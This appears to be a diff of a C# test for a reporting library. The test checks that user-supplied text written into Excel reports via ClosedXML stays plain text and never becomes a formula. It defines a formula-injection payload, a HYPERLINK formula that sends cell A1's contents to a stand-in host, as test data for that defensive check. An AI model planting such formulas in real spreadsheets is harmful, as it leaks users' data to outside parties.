@@ -9,7 +9,8 @@ using ReformMetrics.TestSupport;
 namespace ReformMetrics.Reports.Tests;
 
 /// <summary>Text that people control (an agency's name comes from the agency lists the provinces load) reaches the Excel
-/// reports as text: ClosedXML writes a string given as a cell's value as a string, and only FormulaA1 writes a formula.</summary>
+/// reports as text: ClosedXML 0.95 writes a formula only through FormulaA1, which no report uses; a string given as a
+/// cell's value is stored as text (or the number or date it reads).</summary>
 public sealed class SpreadsheetTextTests(Scenario scenario) : IClassFixture<Scenario>
 {
     private const string Formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")";
